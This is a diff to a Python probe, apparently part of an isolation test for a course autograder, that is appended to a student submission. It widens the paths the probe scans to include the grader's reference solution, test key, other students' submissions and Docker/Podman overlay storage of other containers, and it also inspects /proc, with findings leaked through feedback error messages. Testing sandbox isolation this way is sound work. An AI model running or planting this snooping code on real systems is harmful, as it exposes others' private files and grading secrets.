@@ -1,10 +1,11 @@
 
 # ---- attack (appended to a student module): read what the grader keeps from the sandbox ----------
-# During the answer step, for up to a minute, while other gradings run on the same machine: read
-# the reference solution, the test key, other students' submissions and checkpoints, the trusted
-# side's results and logs, wherever a grading of this machine keeps them; look into other
-# processes; reach the network. Everything found goes into the feedback (a probe's error message),
-# where the student would read it.
+# During the answer step, for __SECONDS__ s, while other gradings run on the same machine: read the
+# reference solution, the test key, other students' submissions and checkpoints, the trusted side's
+# results and logs, wherever a grading of this machine keeps them (the runner's folders, the TA
+# commands' temporary folders, the container engines' storage, where other containers' files live);
+# look into other processes; reach the network. Everything found goes into the feedback (a probe's
+# error message), where the student would read it.
 import glob as _spy_glob
 import json as _spy_json
 import os as _spy_os
@@ -20,7 +21,12 @@ _SPY_SECRETS = [
     "work/code/proj4_code/*.py", "work/model_output/*.pt", "submission/*", "submission/*/*",
     "results/results.json", "run_autograder.log", "work/answers/answers.json", "work/public/events.jsonl",
 ]
-_SPY_ROOTS = ["/tmp/proj4-grading-*/*/autograder", "/tmp/proj4-*/*/autograder", "/autograder"]
+_SPY_ROOTS = ["/tmp/proj4-grading-*/*/autograder", "/tmp/proj4-*/*/autograder", "/tmp/proj4-*/autograder",
+              "/var/lib/containers/storage/overlay/*/merged/autograder",
+              "/var/lib/containers/storage/overlay/*/diff/autograder", "/var/lib/docker/overlay2/*/merged/autograder",
+              "/var/lib/docker/overlay2/*/diff/autograder", "/autograder"]
+_SPY_HOST = ["/tmp/proj4-*/submission/*", "/tmp/proj4-*/files/*", "/tmp/proj4-*/out/*", "/tmp/proj4-*/results/*",
+             "/tmp/proj4-*/*/*.json", "/var/lib/containers/storage/overlay-containers/*/userdata/*"]
 
 
 def _spy_run():
@@ -42,6 +48,15 @@ def _spy_run():
                                     read[path] = True
                         except OSError:
                             pass
+        for pattern in _SPY_HOST:  # the TA commands' own folders and the engine's records of other containers
+            for path in _spy_glob.glob(pattern):
+                if path not in read and _spy_os.path.isfile(path):
+                    try:
+                        with open(path, "rb") as f:
+                            if f.read(64):
+                                read[path] = True
+                    except OSError:
+                        pass
         _spy_time.sleep(0.05)
     proc = 0
     for entry in _spy_os.listdir("/proc"):
